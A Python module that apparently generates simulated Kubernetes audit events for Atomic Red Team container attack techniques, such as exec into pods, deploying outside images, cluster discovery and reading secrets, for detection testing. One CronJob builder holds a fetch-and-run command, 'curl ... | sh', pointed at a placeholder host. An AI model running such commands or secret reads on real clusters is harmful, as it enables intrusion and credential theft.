"""Atomic Red Team's container techniques (T1609, T1610, T1613, T1552.007, T1053.007) as campaign builders."""

from __future__ import annotations

from simulation.attacks.cursor import CampaignRun
from simulation.attacks.pods import attacker_pod_spec, exec_in_pod
from simulation.emitter import object_ref


def container_administration_command(r: CampaignRun) -> None:
    """T1609: ``kubectl exec`` of ``ls`` then ``id`` in a live pod."""
    ns, pod, _ = r.live_pod()
    exec_in_pod(r, 0, ns, pod, ["ls"])
    exec_in_pod(r, 8, ns, pod, ["id"])


def deploy_container(r: CampaignRun) -> None:
    """T1610: a Deployment of an outside image, plus the ReplicaSet and Pod the controllers create."""
    ns = r.rng.choice(r.namespaces())
    name, rs_hash = "busybox-" + r.em.token(4), r.em.token(10)
    labels = {"app": name}
    spec = attacker_pod_spec("docker.io/library/busybox:1.36", command=["sh", "-c", "while true; do sleep 30; done"])
    dep = {
        "kind": "Deployment",
        "apiVersion": "apps/v1",
        "metadata": {"name": name, "namespace": ns, "creationTimestamp": None, "labels": labels},
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": labels},
            "template": {"metadata": {"creationTimestamp": None, "labels": labels}, "spec": spec},
            "strategy": {},
        },
        "status": {},
    }
    r.request(
        0,
        "create",
        f"/apis/apps/v1/namespaces/{ns}/deployments?fieldManager=kubectl-create&fieldValidation=Strict",
        object_ref("deployments", ns, group="apps"),
        code=201,
        level="Request",
        req_obj=dep,
        obj_meta=(name, None, None),
    )
    pod_labels = {**labels, "pod-template-hash": rs_hash}
    rs = {
        "kind": "ReplicaSet",
        "apiVersion": "apps/v1",
        "metadata": {"name": f"{name}-{rs_hash}", "namespace": ns, "creationTimestamp": None, "labels": pod_labels},
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": pod_labels},
            "template": {"metadata": {"creationTimestamp": None, "labels": pod_labels}, "spec": spec},
        },
        "status": {"replicas": 0},
    }
    r.request(
        0.01,
        "create",
        f"/apis/apps/v1/namespaces/{ns}/replicasets",
        object_ref("replicasets", ns, group="apps"),
        actor=r.cluster.control_plane.deployment_controller,
        code=201,
        level="Request",
        req_obj=rs,
        obj_meta=(f"{name}-{rs_hash}", None, None),
    )
    pod = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {
            "generateName": f"{name}-{rs_hash}-",
            "namespace": ns,
            "creationTimestamp": None,
            "labels": pod_labels,
        },
        "spec": spec,
        "status": {},
    }
    r.request(
        0.01,
        "create",
        f"/api/v1/namespaces/{ns}/pods",
        object_ref("pods", ns),
        actor=r.cluster.control_plane.replicaset_controller,
        code=201,
        level="Request",
        req_obj=pod,
    )


def resource_discovery(r: CampaignRun) -> None:
    """T1613: cluster-wide lists; an identity without cluster-wide rights is refused some of them."""
    allowed_all = r.actor.username.startswith("mallory")
    first = True
    for res, group, ver in (
        ("pods", "", "v1"),
        ("deployments", "apps", "v1"),
        ("services", "", "v1"),
        ("nodes", "", "v1"),
        ("namespaces", "", "v1"),
        ("configmaps", "", "v1"),
        ("daemonsets", "apps", "v1"),
        ("roles", "rbac.authorization.k8s.io", "v1"),
    ):
        base = f"/api/{ver}" if not group else f"/apis/{group}/{ver}"
        uri, ref = f"{base}/{res}?limit=500", object_ref(res, group=group, version=ver)
        dt = 0 if first else 1.5
        first = False
        if allowed_all or res in ("pods", "deployments", "services", "namespaces"):
            r.request(dt, "list", uri, ref, latency=5_000 + r.rng.randrange(40_000))
        else:
            r.forbidden(dt, "list", uri, ref, res)


def container_api_secrets(r: CampaignRun) -> None:
    """T1552.007: list the secrets of a namespace, then read four of them."""
    ns = r.rng.choice(r.namespaces())
    r.request(0, "list", f"/api/v1/namespaces/{ns}/secrets?limit=500", object_ref("secrets", ns))
    for i in range(4):
        name = r.rng.choice(("db-credentials", "api-key", "tls", "registry-pull", "oauth-client", "smtp"))
        ref = object_ref("secrets", ns, f"{name}-{i}")
        r.request(1.5, "get", f"/api/v1/namespaces/{ns}/secrets/{name}-{i}", ref)


def orchestration_cronjob(r: CampaignRun) -> None:
    """T1053.007: a CronJob that runs ``curl | sh`` every 10 minutes."""
    name = "atomic-cronjob-" + r.em.token(4)
    pod_spec = attacker_pod_spec(
        "docker.io/curlimages/curl:8.8.0", command=["sh", "-c", "curl -s http://198.51.100.9/x.sh | sh"]
    )
    cj = {
        "kind": "CronJob",
        "apiVersion": "batch/v1",
        "metadata": {"name": name, "namespace": "default", "creationTimestamp": None},
        "spec": {
            "schedule": "*/10 * * * *",
            "jobTemplate": {
                "metadata": {"creationTimestamp": None},
                "spec": {
                    "template": {
                        "metadata": {"creationTimestamp": None},
                        "spec": pod_spec | {"restartPolicy": "OnFailure"},
                    }
                },
            },
        },
        "status": {},
    }
    r.request(
        0,
        "create",
        "/apis/batch/v1/namespaces/default/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict",
        object_ref("cronjobs", "default", group="batch"),
        code=201,
        level="Request",
        req_obj=cj,
        obj_meta=(name, None, None),
    )
